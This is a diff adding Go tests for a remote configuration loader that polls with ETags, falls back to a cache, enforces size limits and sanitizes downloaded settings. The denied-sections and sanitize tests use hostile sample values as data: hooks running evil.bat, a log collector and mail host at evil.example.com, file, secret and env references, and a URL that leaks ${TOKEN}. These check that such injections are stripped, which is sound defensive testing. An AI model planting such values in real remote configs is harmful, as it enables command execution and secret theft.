@@ -0,0 +1,280 @@
+package main
+
+import (
+	"io/ioutil"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+)
+
+//remoteServer 模拟远程配置服务,支持ETag,status不为0时直接返回这个状态码
+type remoteServer struct {
+	mu      sync.Mutex
+	content string
+	etag    string
+	status  int
+	notMod  int
+}
+
+func (s *remoteServer) set(content, etag string) {
+	s.mu.Lock()
+	s.content, s.etag = content, etag
+	s.mu.Unlock()
+}
+
+func (s *remoteServer) setStatus(status int) {
+	s.mu.Lock()
+	s.status = status
+	s.mu.Unlock()
+}
+
+func (s *remoteServer) notModified() int {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return s.notMod
+}
+
+func (s *remoteServer) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	if s.status != 0 {
+		w.WriteHeader(s.status)
+		return
+	}
+	if s.etag != "" && r.Header.Get("If-None-Match") == s.etag {
+		s.notMod++
+		w.WriteHeader(http.StatusNotModified)
+		return
+	}
+	w.Header().Set("ETag", s.etag)
+	w.Write([]byte(s.content))
+}
+
+//remoteTestCfg 在临时目录生成本地配置文件,远程配置源指向url
+func remoteTestCfg(t *testing.T, url string) (string, RemoteCfg) {
+	dir, err := ioutil.TempDir("", "remote_cfg")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.RemoveAll(dir) })
+
+	path := filepath.Join(dir, "config.ini")
+	local := "[Remote]\nOpen = 1\nUrl = " + url + "\n\n[Timer]\nRestartWorkers = 4\n"
+	if err := ioutil.WriteFile(path, []byte(local), 0600); err != nil {
+		t.Fatal(err)
+	}
+	rc, err := ParseRemoteCfg(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return path, rc
+}
+
+func TestRemoteCfgPoll(t *testing.T) {
+	srv := &remoteServer{}
+	srv.set("[Machine]\nName = TradeA\n", `"v1"`)
+	ts := httptest.NewServer(srv)
+	defer ts.Close()
+
+	path, rc := remoteTestCfg(t, ts.URL)
+	rs := NewRemoteCfgSource(path)
+
+	if changed, err := rs.Poll(rc); err != nil || !changed {
+		t.Fatalf("first poll changed %v err %v", changed, err)
+	}
+	data, err := ParseCfg(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if data.machineName != "TradeA" || data.timer.RestartWorkers != 4 {
+		t.Errorf("machine %s workers %d", data.machineName, data.timer.RestartWorkers)
+	}
+
+	//没有修改时服务端返回304
+	if changed, err := rs.Poll(rc); err != nil || changed {
+		t.Errorf("second poll changed %v err %v", changed, err)
+	}
+	if srv.notModified() != 1 {
+		t.Errorf("304 responses %d, want 1", srv.notModified())
+	}
+
+	//本地配置覆盖远程配置
+	srv.set("[Machine]\nName = TradeB\n[Timer]\nRestartWorkers = 8\n", `"v2"`)
+	if changed, err := rs.Poll(rc); err != nil || !changed {
+		t.Fatalf("poll after change changed %v err %v", changed, err)
+	}
+	if data, err = ParseCfg(path); err != nil {
+		t.Fatal(err)
+	}
+	if data.machineName != "TradeB" || data.timer.RestartWorkers != 4 {
+		t.Errorf("machine %s workers %d", data.machineName, data.timer.RestartWorkers)
+	}
+
+	//重启后以缓存为基准,内容没有变化不算修改
+	rs = NewRemoteCfgSource(path)
+	if changed, err := rs.Poll(rc); err != nil || changed {
+		t.Errorf("poll after restart changed %v err %v", changed, err)
+	}
+}
+
+func TestRemoteCfgCacheFallback(t *testing.T) {
+	srv := &remoteServer{}
+	srv.set("[Machine]\nName = TradeA\n", `"v1"`)
+	ts := httptest.NewServer(srv)
+	defer ts.Close()
+
+	path, rc := remoteTestCfg(t, ts.URL)
+	rs := NewRemoteCfgSource(path)
+	if _, err := rs.Poll(rc); err != nil {
+		t.Fatal(err)
+	}
+
+	//服务端出错时继续使用缓存
+	srv.setStatus(http.StatusInternalServerError)
+	if changed, err := rs.Poll(rc); err == nil || changed {
+		t.Errorf("poll with server error changed %v err %v", changed, err)
+	}
+	srv.setStatus(0)
+
+	//校验不通过的配置不替换缓存,也不记录它的ETag
+	srv.set("[Timer]\nCheckInterval = -1s\n", `"bad"`)
+	for i := 0; i < 2; i++ {
+		if changed, err := rs.Poll(rc); err == nil || changed {
+			t.Errorf("poll invalid config changed %v err %v", changed, err)
+		}
+	}
+	if rs.etag != `"v1"` || srv.notModified() != 0 {
+		t.Errorf("etag %s after invalid config, 304 responses %d", rs.etag, srv.notModified())
+	}
+
+	data, err := ParseCfg(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if data.machineName != "TradeA" {
+		t.Errorf("machine %s, want the cached TradeA", data.machineName)
+	}
+
+	//服务器不可用
+	ts.Close()
+	if _, err := rs.Poll(rc); err == nil {
+		t.Error("poll with server closed should fail")
+	}
+	if data, err = ParseCfg(path); err != nil || data.machineName != "TradeA" {
+		t.Errorf("parse with cache err %v", err)
+	}
+}
+
+func TestRemoteCfgDeniedSections(t *testing.T) {
+	srv := &remoteServer{}
+	srv.set("[Machine]\nName = TradeA\n[Include]\nFile1 = D:\\other.ini\n[ScriptCheck]\nService1 = Doo\nCommand1 = evil.bat\n"+
+		"[Recovery]\nService1 = Doo\nSteps1 = script:evil.bat,start\n[Hook]\nService1 = Doo\nPreRestart1 = evil.bat\n"+
+		"[EmailInfo]\nStatus = 1\nHost = evil.example.com\nSendP = file:C:\\evil.txt\n[Api]\nOpen = 1\nAddr = 0.0.0.0:9000\n"+
+		"[Log]\nCollector = tcp://evil.example.com:514\n[LogWatch]\nService1 = Doo\nPath1 = C:\\evil.log\n"+
+		"[StaleCheck]\nService1 = Doo\nPath1 = C:\\evil.txt\n[Remote]\nUrl = http://evil.example.com\n", `"v1"`)
+	ts := httptest.NewServer(srv)
+	defer ts.Close()
+
+	path, rc := remoteTestCfg(t, ts.URL)
+	rs := NewRemoteCfgSource(path)
+	if changed, err := rs.Poll(rc); err != nil || !changed {
+		t.Fatalf("poll changed %v err %v", changed, err)
+	}
+
+	cache, err := ioutil.ReadFile(rc.Cache)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, s := range []string{"Include", "ScriptCheck", "Recovery", "Hook", "EmailInfo", "Api", "Log", "Remote", "evil"} {
+		if strings.Contains(string(cache), s) {
+			t.Errorf("%s found in remote cache:\n%s", s, cache)
+		}
+	}
+
+	//旧版本写入的缓存中的命令行同样不加载
+	if err := ioutil.WriteFile(rc.Cache, []byte("[Machine]\nName = TradeA\n[Hook]\nService1 = Doo\nPreRestart1 = evil.bat\n"), 0600); err != nil {
+		t.Fatal(err)
+	}
+	data, err := ParseCfg(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if data.machineName != "TradeA" || len(data.health.Hooks) != 0 {
+		t.Errorf("machine %s hooks %v", data.machineName, data.health.Hooks)
+	}
+}
+
+func TestSanitizeRemoteCfg(t *testing.T) {
+	tests := []struct {
+		name    string
+		content string
+		keep    []string //去掉后仍然保留的内容
+		dropped []string
+	}{
+		{"allowed", "[Machine]\nName = TradeA\n[Timer]\nCheckInterval = 1s\n",
+			[]string{"TradeA", "CheckInterval"}, []string{}},
+		{"denied sections", "[Machine]\nName = TradeA\n[EmailInfo]\nHost = evil\n[Api]\nOpen = 1\n[Log]\nCollector = tcp://evil:514\n",
+			[]string{"TradeA"}, []string{"EmailInfo", "Api", "Log"}},
+		{"unknown section", "[Machine]\nName = TradeA\n[Machine.Sub]\nName = B\n[Other]\nA = 1\n",
+			[]string{"TradeA"}, []string{"Machine.Sub", "Other"}},
+		{"default section", "Name = TradeB\n[Machine]\nName = TradeA\n",
+			[]string{"TradeA"}, []string{"DEFAULT.Name"}},
+		{"attach", "[SpecInfo]\nName1 = Doo\nAttach1 = D:\\data\n",
+			[]string{"Name1"}, []string{"SpecInfo.Attach1"}},
+		{"secret refs", "[Machine]\nName = TradeA\n[HttpProbe]\nService1 = Doo\nUrl1 = file:C:\\evil.txt\nHeader1 = secret:token\nBody1 = env:TOKEN\n",
+			[]string{"TradeA", "Service1"}, []string{"HttpProbe.Url1", "HttpProbe.Header1", "HttpProbe.Body1"}},
+		{"env refs", "[Machine]\nName = ${COMPUTERNAME}\n[HttpProbe]\nUrl1 = http://evil/?k=${TOKEN}\n",
+			[]string{"HttpProbe"}, []string{"Machine.Name", "HttpProbe.Url1"}},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			content, dropped, err := SanitizeRemoteCfg([]byte(tt.content))
+			if err != nil {
+				t.Fatal(err)
+			}
+			if strings.Join(dropped, ",") != strings.Join(tt.dropped, ",") {
+				t.Errorf("dropped %v, want %v", dropped, tt.dropped)
+			}
+			for _, s := range tt.keep {
+				if !strings.Contains(string(content), s) {
+					t.Errorf("%s not found in:\n%s", s, content)
+				}
+			}
+			for _, s := range []string{"evil", "${", "file:", "secret:", "env:", "TradeB", "Attach"} {
+				if strings.Contains(string(content), s) {
+					t.Errorf("%s found in:\n%s", s, content)
+				}
+			}
+		})
+	}
+}
+
+func TestRemoteCfgMaxSize(t *testing.T) {
+	srv := &remoteServer{}
+	srv.set("[Machine]\nName = TradeA\n#"+strings.Repeat("x", RemoteCfgMaxSize)+"\n", `"v1"`)
+	ts := httptest.NewServer(srv)
+	defer ts.Close()
+
+	path, rc := remoteTestCfg(t, ts.URL)
+	rs := NewRemoteCfgSource(path)
+	if _, err := rs.Poll(rc); err == nil || !strings.Contains(err.Error(), "larger than") {
+		t.Errorf("poll too large config err %v", err)
+	}
+	if PathExists(rc.Cache) {
+		t.Error("too large config should not be cached")
+	}
+
+	//共享目录中的文件同样限制大小
+	rc.Url, rc.Path = "", filepath.Join(filepath.Dir(path), "shared.ini")
+	if err := ioutil.WriteFile(rc.Path, []byte(strings.Repeat("#", RemoteCfgMaxSize+1)), 0600); err != nil {
+		t.Fatal(err)
+	}
+	if _, _, err := rs.Fetch(rc); err == nil {
+		t.Error("fetch too large file should fail")
+	}
+}